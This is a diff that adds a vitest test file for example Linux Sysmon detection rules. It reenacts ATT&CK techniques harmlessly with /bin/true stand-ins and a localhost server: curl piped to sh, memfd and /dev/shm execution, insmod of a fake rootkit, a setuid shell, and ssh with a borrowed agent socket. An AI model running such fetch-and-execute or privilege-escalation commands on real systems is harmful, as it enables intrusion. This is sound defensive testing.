@@ -1,0 +1,209 @@
+/** Each file of examples/rules: the attack is run for real and its rules fire; what is near it does not. */
+import { spawnSync, type SpawnSyncOptions } from 'node:child_process';
+import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { basename, join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { Sysmon, type EventType, type SysmonEvent } from '../../lib/index.js';
+import { eventTable } from '../../lib/schema/tables.gen.js';
+import { compile, makeFolder, removeFolder, run } from './helpers/workspace.js';
+
+const rules = new URL('../../examples/rules/', import.meta.url);
+/** Nobody: whoever is root already escalates nothing. */
+const nobody = 65534;
+
+let folder: string; // in /tmp, where the rules suspect things
+let elsewhere: string; // where they do not
+let fileless: string;
+
+beforeAll(() => {
+  folder = makeFolder();
+  mkdirSync('/var/lib/sysmon-test', { recursive: true, mode: 0o755 });
+  elsewhere = mkdtempSync('/var/lib/sysmon-test/');
+  chmodSync(elsewhere, 0o755);
+  fileless = compile('fileless.c', join(elsewhere, 'fileless'));
+});
+afterAll(() => {
+  removeFolder(folder);
+  rmSync('/var/lib/sysmon-test', { recursive: true });
+});
+
+/** A command that must run; what it returns does not matter to the rules. */
+function does(command: string, args: readonly string[] = [], options: SpawnSyncOptions = {}): void {
+  const { error } = spawnSync(command, args, { cwd: elsewhere, stdio: 'ignore', timeout: 60_000, ...options });
+  if (error) throw error;
+}
+
+/** As `does`, without blocking this process, which may be the other end. */
+async function runs(command: string, args: readonly string[] = []): Promise<void> {
+  await run(command, args, { cwd: elsewhere, stdio: 'ignore' }).ended;
+}
+
+/** A program by its name: that of the system, or else a stand-in that does nothing. */
+function program(name: string): string {
+  const { stdout, status } = spawnSync('sh', ['-c', 'command -v "$1"', 'sh', name], { encoding: 'utf8' });
+  return status === 0 ? stdout.trim() : standIn('true', name);
+}
+
+/** A program of the system under another name, in a folder of this test. */
+function standIn(of: string, name: string, where = elsewhere): string {
+  const path = join(where, name);
+  copyFileSync(`/bin/${of}`, path);
+  chmodSync(path, 0o755);
+  return path;
+}
+
+interface Scenario {
+  /** Types of events without which the scenario cannot be seen. */
+  readonly needs: readonly EventType[];
+  readonly fires: Readonly<Record<string, () => void | Promise<void>>>;
+  readonly quiet: () => void | Promise<void>;
+}
+
+/** Serves a program to whoever asks, while `act` runs. */
+async function serving(act: (url: string) => Promise<void>): Promise<void> {
+  const server = createServer((_, response) => response.end('#!/bin/sh\ntrue\n'));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  try {
+    await act(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
+  } finally {
+    server.closeAllConnections();
+    server.close();
+  }
+}
+
+const scenarios: Record<string, Scenario> = {
+  'download-and-run.yml': {
+    needs: ['ProcessCreate'],
+    fires: {
+      T1105: () => serving((url) => runs(program('curl'), ['-so', join(folder, 'fetched'), `${url}/x`])),
+      'T1059.004': () => serving((url) => runs('/bin/sh', ['-c', `${program('curl')} -s ${url}/x | sh`])),
+      'T1204.002': () => {
+        does(standIn('true', 'dropped', folder));
+      },
+    },
+    quiet: () =>
+      serving(async (url) => {
+        await runs(program('curl'), ['-s', `${url}/health`]);
+        await runs('/bin/sh', ['-c', `${program('curl')} -s ${url}/x | cat`]);
+        does('/bin/cp', ['/bin/true', join(folder, 'copied')]);
+        does(standIn('true', 'installed'));
+      }),
+  },
+  'fileless.yml': {
+    needs: ['ProcessCreate'],
+    fires: {
+      T1620: () => {
+        does(fileless, ['memfd', elsewhere, '/bin/true']);
+        does(fileless, ['unnamed', elsewhere, '/bin/true']);
+      },
+      'T1027.011': () => {
+        const shared = mkdtempSync('/dev/shm/sysmon-');
+        try {
+          does(standIn('true', 'x', shared));
+        } finally {
+          rmSync(shared, { recursive: true });
+        }
+      },
+    },
+    quiet: () => {
+      does(fileless, ['kept', elsewhere, '/bin/true']);
+      does('/bin/ls', ['/dev/shm/']);
+    },
+  },
+  'module-load.yml': {
+    needs: ['ProcessCreate'],
+    fires: {
+      'T1547.006': () => {
+        // The kernel refuses it, which insmod did not know when it was started.
+        writeFileSync(join(folder, 'rootkit.ko'), 'no module');
+        does(program('insmod'), [join(folder, 'rootkit.ko')]);
+      },
+    },
+    quiet: () => {
+      does(program('modprobe'), ['-n', 'dummy']);
+      does('/bin/ls', [join(folder, 'rootkit.ko')]);
+    },
+  },
+  'privilege-escalation.yml': {
+    needs: ['ProcessCreate'],
+    fires: {
+      'T1548.003': () => does(spawnSync('sudo', ['-V']).error ? standIn('true', 'sudo') : 'sudo', ['-n', 'true']),
+      'T1548.001': () => {
+        const shell = standIn('true', 'rootshell', folder);
+        does('/bin/chmod', ['u+s', shell]);
+        does(shell, [], { uid: nobody, gid: nobody });
+      },
+    },
+    quiet: () => {
+      const tool = standIn('true', 'tool', folder);
+      does('/bin/chmod', ['u+x', tool]);
+      does('/bin/chmod', ['0755', tool]);
+      does(tool, [], { uid: nobody, gid: nobody });
+      // The distribution's own way to root for everybody.
+      does('/usr/bin/passwd', ['--status'], { uid: nobody, gid: nobody });
+    },
+  },
+  'ssh-lateral-movement.yml': {
+    needs: ['ProcessCreate'],
+    fires: {
+      'T1021.004': () => {
+        // The server is a shell under its name; the client finds nobody at the port.
+        const server = standIn('sh', 'sshd');
+        does(server, ['-c', `${program('ssh')} -F /dev/null -o BatchMode=yes -p 1 127.0.0.1 true; true`]);
+      },
+      'T1563.001': () =>
+        does(program('ssh'), ['-F', '/dev/null', '-o', 'BatchMode=yes', '-p', '1', '127.0.0.1', 'true'], {
+          env: { ...process.env, SSH_AUTH_SOCK: '/tmp/ssh-of-somebody/agent.1' },
+        }),
+    },
+    quiet: () => {
+      does(program('ssh'), ['-V'], { env: { PATH: process.env['PATH'] } });
+      does(standIn('sh', 'not-sshd'), ['-c', `${program('ssh')} -V; true`], { env: { PATH: process.env['PATH'] } });
+      does(standIn('sh', 'sshd'), ['-c', '/bin/ls /; true'], { env: { PATH: process.env['PATH'] } });
+    },
+  },
+};
+
+/** What this process and those below it made of the rules, and did while they were in force. */
+async function watched(file: string, act: () => void | Promise<void>): Promise<SysmonEvent[]> {
+  const { pathname } = new URL(file, rules);
+  const sysmon = new Sysmon({ config: pathname, hash: 'none' });
+  const events: SysmonEvent[] = [];
+  sysmon.on('event', (e) => {
+    // Others use this machine as well. ProcessTerminate is in none of the files: Sysmon's default keeps it.
+    const mine = e.process !== undefined && [...e.process.ancestors()].some((a) => a.pid === process.pid);
+    if (mine && e.type !== 'ProcessTerminate') events.push(e);
+  });
+  await sysmon.start();
+  try {
+    await act();
+  } finally {
+    await sysmon.stop();
+  }
+  return events;
+}
+
+const captured = new Set<string>(eventTable.filter((e) => e.wire !== undefined).map((e) => e.name));
+const told = (e: SysmonEvent): string => `${e.type} ${JSON.stringify(e.data)}`;
+
+describe.each(Object.entries(scenarios).filter(([, { needs }]) => needs.every((type) => captured.has(type))))(
+  '%s',
+  (file, { fires, quiet }) => {
+    test.each(Object.entries(fires))('%s', async (id, attack) => {
+      const events = await watched(file, attack);
+      const ids = events.flatMap((e) => e.techniques.filter((t) => t.source === 'rule').map((t) => t.id));
+      expect(ids, events.map(told).join('\n')).toContain(id);
+      // Nothing is kept that no rule names.
+      expect(events.filter((e) => !e.techniques.some((t) => t.source === 'rule')).map(told)).toEqual([]);
+    });
+
+    test('near misses', async () => expect((await watched(file, quiet)).map(told)).toEqual([]));
+  },
+);
+
+test('there is a scenario for each file', () => {
+  const files = readdirSync(rules).filter((f) => f.endsWith('.yml'));
+  expect(files.filter((f) => !(basename(f) in scenarios))).toEqual(['c2-connection.yml', 'passwd-tampering.yml']);
+});
